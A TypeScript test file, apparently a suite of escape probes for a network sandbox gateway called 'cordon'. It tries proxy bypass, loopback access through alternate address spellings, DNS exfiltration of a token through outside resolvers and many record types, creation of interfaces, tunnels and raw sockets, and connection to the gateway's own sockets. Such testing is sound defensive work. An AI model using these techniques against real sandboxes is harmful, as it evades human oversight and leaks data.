import { spawnSync } from "node:child_process";
import { readdirSync, readFileSync, readlinkSync, statSync } from "node:fs";
import { basename, join } from "node:path";
import { attempt, describeWritable, listNames, listPids } from "../../escape/reach.ts";
import { call, connectUnix } from "../../escape/syscall.ts";
import { type NetworkProbe, sharedPort, victims } from "../facts.ts";
import { askDatagram, askStream, dnsQuery, dnsTypes, resolver } from "./dns-client.ts";
import { tryEveryWay } from "./proxy-client.ts";
import { ask, describeReached, request } from "./talk.ts";
import { conclude, reachAllowed } from "./verdict.ts";

const reach = async (address: string, port: number) =>
  describeReached(`${address}:${port}`, await ask(address, port, request(address)));

/** A datagram that a server answers. */
const reachByDatagram = async (address: string, labels: string[], type?: number) =>
  (await askDatagram(address, dnsQuery(labels, type))) && `a datagram to ${address} was answered`;

/** An echo request from a datagram socket of ICMP, or from the program that has the right to a raw one. */
const reachByPing = (address: string): string | false =>
  spawnSync("ping", ["-c", "1", "-W", "1", address]).status === 0 && `${address} answers to ping`;

const run = (...argv: string[]) => spawnSync(argv[0]!, argv.slice(1), { timeout: 10_000 }).status === 0;

/** What `ip` says that it has done. */
const changeNetwork = (...words: string[]): string | false => run("ip", ...words) && `ip ${words.join(" ")} was obeyed`;

function openTun(): string | false {
  const path = "/dev/net/tun";
  return attempt(() => statSync(path)) !== undefined && describeWritable(path) !== undefined && `${path} can be opened`;
}

const hostNames = ["127.0.0.1", "127.1", "2130706433", "0x7f.1", "127.0.0.2", "0.0.0.0", "0", "localhost", "::1", "::"];
const mappedNames = ["::ffff:127.0.0.1", "::ffff:0.0.0.0", "ip6-localhost"];

const outerResolvers = ["11.1.1.53", "8.8.8.8", "1.1.1.1", "192.168.7.7"];

function listSockets(dir: string): string[] {
  return listNames(dir).flatMap((name) => {
    const path = join(dir, name);
    const stat = attempt(() => statSync(path));
    return stat?.isSocket() ? [path] : stat?.isDirectory() ? listSockets(path) : [];
  });
}

/** Descriptors that some process of the program itself shows to us. */
function describeGateways(): string[] {
  const isGateway = (pid: number): boolean =>
    basename(attempt(() => readlinkSync(`/proc/${pid}/exe`)) ?? "") === "cordon";
  return listPids()
    .filter(isGateway)
    .filter((pid) => (attempt(() => readdirSync(`/proc/${pid}/fd`)) ?? []).length > 0)
    .map((pid) => `the descriptors of ${pid} can be listed`);
}

const isOwnSocketReached = (workspace: string): boolean => {
  const unix = join(workspace, "own.sock");
  const listener = Bun.listen({ unix, socket: { data() {} } });
  const answer = connectUnix(unix);
  listener.stop(true);
  return answer === "";
};

export const directProbes: NetworkProbe[] = [
  {
    id: "NT-01",
    attack: "ignore the proxy: TCP, UDP, IPv6 and ICMP to addresses of the world",
    attempt: () =>
      conclude(
        [
          ...victims.filter(([address]) => !/^127|^::1/.test(address)).map(([address, port]) => reach(address, port)),
          ...["::ffff:11.1.1.2", "::ffff:10.1.2.3", "184615170"].map((address) => reach(address, 80)),
          ...["11.1.1.1", "11.1.1.2"].map((address) => reach(address, 443)),
          ...["11.1.1.2", "10.1.2.3", "11.1.1.53"].flatMap((address) => [
            reachByDatagram(address, ["exfil", "test"]),
            reachByPing(address),
          ]),
        ],
        reachAllowed,
      ),
  },
  {
    id: "NT-02",
    attack: "services on the host's loopback, directly",
    options: ["--allow-host", "allowed.test", "--host-port", `${sharedPort}`],
    attempt: () =>
      conclude(
        [...hostNames, ...mappedNames].flatMap((name) => [80, 443, 8081].map((port) => reach(name, port))),
        async () => ((await reach("127.0.0.1", sharedPort)) ? undefined : "the shared port does not answer"),
      ),
  },
  {
    id: "NT-19",
    attack: "carry data out in names: resolvers outside, every type, getent, DNS over TCP and HTTPS",
    attempt({ token }) {
      const name = `stolen-${token}.denied.test`;
      const labels = name.split(".");
      const types = Object.values(dnsTypes);
      return conclude(
        [
          ...outerResolvers.flatMap((server) => [
            reachByDatagram(server, labels),
            askStream(server, dnsQuery(labels)).then((answer) => answer && `${server} answered over TCP`),
            reach(server, 443),
            ...tryEveryWay(server, 53),
            ...tryEveryWay(server, 443),
          ]),
          ...types.flatMap((type) => [
            askDatagram(resolver, dnsQuery(labels, type)).then((answer) => answer?.address),
            askDatagram(resolver, dnsQuery([`x-${token}`, "allowed", "test"], type)).then((answer) => answer?.address),
            askStream(resolver, dnsQuery(labels, type)).then((answer) => answer?.address),
          ]),
          run("getent", "ahosts", name) && `getent resolved ${name}`,
          Bun.dns.lookup(name).then(
            () => `${name} was resolved`,
            () => undefined,
          ),
        ],
        async () => {
          const answer = await askDatagram(resolver, dnsQuery(["allowed", "test"]));
          return answer?.address?.startsWith("127.66.") ? undefined : `allowed.test is at ${answer?.address}`;
        },
      );
    },
  },
  {
    id: "X-10",
    attack: "make a way of one's own: interfaces, addresses, routes, tunnels, packet sockets",
    attempt: () =>
      conclude(
        [
          changeNetwork("link", "add", "escape0", "type", "dummy"),
          changeNetwork("link", "add", "escape1", "type", "veth", "peer", "name", "escape2"),
          changeNetwork("address", "add", "11.1.1.77/32", "dev", "lo"),
          changeNetwork("route", "add", "11.1.1.0/24", "dev", "lo"),
          changeNetwork("tuntap", "add", "dev", "escape3", "mode", "tun"),
          changeNetwork("link", "set", "lo", "mtu", "60000"),
          openTun(),
          ...[
            [17, 3, 0],
            [17, 2, 0],
            [2, 3, 1],
            [10, 3, 58],
            [2, 3, 255],
          ].map(([family, type, protocol]) => {
            const { value, error } = call("socket", family!, type!, protocol!);
            if (error === "") call("close", value);
            return error === "" && `socket(${family}, ${type}, ${protocol}) was made`;
          }),
        ],
        async () => (run("ip", "-o", "link", "show", "lo") ? reachAllowed() : "ip does not run"),
      ),
  },
  {
    id: "X-11",
    neighbour: true,
    attack: "the gateway itself: its descriptors, its control socket, its listeners",
    attempt: ({ runtime, workspace }) =>
      conclude(
        [
          ...describeGateways(),
          ...listSockets(runtime).map((path) => connectUnix(path) === "" && `${path} answers`),
          ...(attempt(() => readFileSync("/proc/net/unix", "utf8")) ?? "")
            .split("\n")
            .map((row) => /\s([@/]\S*cordon\S*)$/.exec(row)?.[1])
            .map((path) => path && connectUnix(path.replace(/^@/, "\0")) === "" && `${path} answers`),
        ],
        async () => (isOwnSocketReached(workspace) ? reachAllowed() : "an own socket does not answer"),
      ),
  },
];
